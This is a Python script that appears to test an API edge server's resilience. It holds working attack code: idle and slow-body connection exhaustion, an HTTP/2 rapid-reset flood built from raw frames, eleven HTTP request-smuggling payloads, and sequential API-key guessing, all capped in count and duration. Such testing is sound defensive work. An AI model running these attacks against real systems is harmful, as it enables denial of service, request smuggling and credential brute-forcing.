"""What attacks an edge; runs on the attacker's machine, with Python's own library. Prints one JSON object.

attacks.py NAME URL [NUMBER] [KEY]     all are bounded in count, and end by themselves within two minutes
"""

from __future__ import annotations

import collections
import json
import select
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable
from urllib.parse import urlsplit

HOLD = 100  # seconds, at most


def place(url: str) -> tuple[str, int]:
    parts = urlsplit(url)
    return parts.hostname or "", parts.port or 0


def connect(url: str, tls: bool | None = None) -> socket.socket:
    plain = socket.create_connection(place(url), timeout=10)
    if not (url.startswith("https") if tls is None else tls):
        return plain
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context.wrap_socket(plain, server_hostname=None)


def is_open(connection: socket.socket) -> bool:
    try:
        poll = select.poll()  # select() knows 1,024 connections
        poll.register(connection, select.POLLIN)
        if not poll.poll(0):
            return True
        connection.settimeout(1)
        return connection.recv(65536) != b""
    except OSError:
        return False


def held(connections: list[socket.socket]) -> dict[str, object]:
    """How many stay open, and for how long the longest does."""
    began = time.monotonic()
    first = None
    while time.monotonic() - began < HOLD:
        time.sleep(1)
        connections = [connection for connection in connections if is_open(connection)]
        first = len(connections) if first is None else first
        if not connections:
            break
    return {"held": first, "seconds": round(time.monotonic() - began), "left": len(connections)}


def idle(url: str, number: int) -> dict[str, object]:
    """Connections without a byte."""
    made = []
    for _ in range(number):
        try:
            made.append(connect(url, tls=False))
        except OSError:
            continue
    return {"tried": number, **held(made)}


def keep_alive(url: str, number: int) -> dict[str, object]:
    """Connections that ask once, for what needs no key, and then stay."""
    made = []
    for _ in range(number):
        try:
            connection = connect(url)
            connection.sendall(b"GET /health HTTP/1.1\r\nHost: edge\r\n\r\n")
            connection.recv(65536)
        except OSError:
            continue
        made.append(connection)
    return {"tried": number, **held(made)}


def slow_bodies(url: str, number: int, key: str) -> dict[str, object]:
    """Requests with a key, of whose body a byte comes now and then."""
    head = f"POST /v1/chat/completions HTTP/1.1\r\nHost: edge\r\nx-api-key: {key}\r\nContent-Length: 100000\r\n\r\n"
    made = []
    for _ in range(number):
        try:
            connection = connect(url)
            connection.sendall(head.encode() + b"{")
        except OSError:
            continue
        made.append(connection)
    began = time.monotonic()
    while made and time.monotonic() - began < 30:
        time.sleep(5)
        for connection in list(made):
            try:
                connection.sendall(b" ")
            except OSError:
                made.remove(connection)
    return {"tried": number, "left": len(made)}


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def reset(url: str, number: int) -> dict[str, object]:
    """HTTP/2's rapid reset: streams that are begun and given up at once, over one connection after another."""
    # :method GET, :scheme http, :path /, and :authority as a literal.
    request = bytes([0x82, 0x86, 0x84, 0x01, 0x04]) + b"edge"
    streams = connections = 0
    began = time.monotonic()
    while streams < number and time.monotonic() - began < 60:
        connection = connect(url, tls=False)
        connections += 1
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
        try:
            for index in range(1, 2000, 2):
                connection.sendall(frame(1, 5, index, request) + frame(3, 0, index, struct.pack(">I", 8)))
                streams += 1
        except OSError:
            pass
        connection.close()
    return {"streams": streams, "connections": connections}


SMUGGLED = "GET /v1/smuggled HTTP/1.1\r\nHost: edge\r\nx-api-key: {key}\r\n\r\n"
HEAD = "POST /v1/models HTTP/1.1\r\nHost: edge\r\nx-api-key: {key}\r\n"


def smuggle(url: str, _: int, key: str) -> dict[str, object]:
    """One request that two programs might read as two."""
    inner = SMUGGLED.format(key="none")
    head = HEAD.format(key=key)
    tried = {
        "TE and CL": f"{head}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}",
        "CL and TE": f"{head}Transfer-Encoding: chunked\r\nContent-Length: {len(inner) + 5}\r\n\r\n0\r\n\r\n{inner}",
        "TE with a space": f"{head}Transfer-Encoding : chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n{inner}",
        "TE twice": f"{head}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n{inner}",
        "an unknown TE": f"{head}Transfer-Encoding: xchunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n{inner}",
        "CL twice": f"{head}Content-Length: 0\r\nContent-Length: {len(inner)}\r\n\r\n{inner}",
        "CL with a plus": f"{head}Content-Length: +{len(inner)}\r\n\r\n{inner}",
        "a bare LF": f"{head}X: a\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n{inner}",
        "a folded header": f"{head}X: a\r\n Transfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\n{inner}",
        "a NUL in a header": f"{head}X: a\0b\r\nContent-Length: 0\r\n\r\n{inner}",
        "a chunk of a wrong size": f"{head}Transfer-Encoding: chunked\r\n\r\nzz\r\n\r\n{inner}",
    }
    answers = {}
    for name, text in tried.items():
        connection = connect(url)
        connection.sendall(text.encode())
        connection.settimeout(3)
        seen = b""
        try:
            while part := connection.recv(65536):
                seen += part
        except OSError:
            pass
        answers[name] = [int(line.split()[1]) for line in seen.split(b"\r\n") if line.startswith(b"HTTP/1.1 ")]
    return {"answers": answers}


def wrong_keys(url: str, number: int) -> dict[str, object]:
    """One guess after another, each a request."""
    statuses: collections.Counter[int] = collections.Counter()
    connection = connect(url)
    for guess in range(number):
        connection.sendall(f"GET /v1/models HTTP/1.1\r\nHost: edge\r\nx-api-key: sk-{guess:020}\r\n\r\n".encode())
        try:
            answer = connection.recv(65536)
        except OSError:
            answer = b""
        if not answer:
            connection = connect(url)
            continue
        statuses[int(answer.split()[1])] += 1
    return {"statuses": dict(statuses)}


ATTACKS: dict[str, Callable[..., dict[str, object]]] = {
    attack.__name__: attack for attack in (idle, keep_alive, slow_bodies, reset, smuggle, wrong_keys)
}


def main() -> None:
    name, url, *more = sys.argv[1:]
    print(json.dumps(ATTACKS[name](url, *(int(word) if word.isdigit() else word for word in more))))


if __name__ == "__main__":
    main()
